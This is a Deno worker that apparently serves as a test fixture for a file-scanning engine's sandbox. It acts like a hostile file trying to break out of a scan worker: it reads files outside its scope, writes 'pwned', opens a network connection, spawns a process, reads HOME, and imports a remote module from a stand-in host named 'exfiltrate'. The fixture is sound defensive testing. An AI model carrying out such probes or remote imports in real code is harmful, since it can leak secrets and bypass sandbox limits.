/// <reference lib="deno.worker" />
// A stand-in scan worker for the pool tests: it tries what a hostile file's
// exploit would try from inside a scan worker, and reports what happened.
import type { WorkerRequest } from "../../engine/worker.ts";

async function attempt(action: () => Promise<unknown>): Promise<string> {
  try {
    await action();
    return "allowed";
  } catch (error) {
    // Module loading reports a missing permission as a TypeError rather than NotCapable.
    const denied = error instanceof Deno.errors.NotCapable || /Requires \w+ access/.test(String(error));
    return denied ? "denied" : `failed: ${error}`;
  }
}

self.onmessage = async (event: MessageEvent<WorkerRequest>) => {
  const { id, task } = event.data;
  const [mode, ...args] = task.path.split("|");
  if (mode === "throw") throw new Error("probe exploded");
  if (mode === "hang") { for (;;) { /* spin until terminated */ } }
  if (mode === "ok") {
    self.postMessage({ id, outcome: { format: "probe", findings: [] } });
    return;
  }
  const [outside, writeTarget, port] = args;
  const results = {
    readTarget: await attempt(() => Deno.readFile(task.realPath)),
    readOutside: await attempt(() => Deno.readFile(outside)),
    write: await attempt(() => Deno.writeTextFile(writeTarget, "pwned")),
    connect: await attempt(async () =>
      (await Deno.connect({ hostname: "127.0.0.1", port: Number(port) })).close()
    ),
    spawn: await attempt(() => new Deno.Command("true").output()),
    env: await attempt(() => Promise.resolve(Deno.env.get("HOME"))),
    // deno-lint-ignore no-import-prefix
    remoteImport: await attempt(() => import("https://modelaudit.invalid/exfiltrate.js?secret=1")),
  };
  self.postMessage({ id, outcome: { format: "probe", findings: [], error: JSON.stringify(results) } });
};
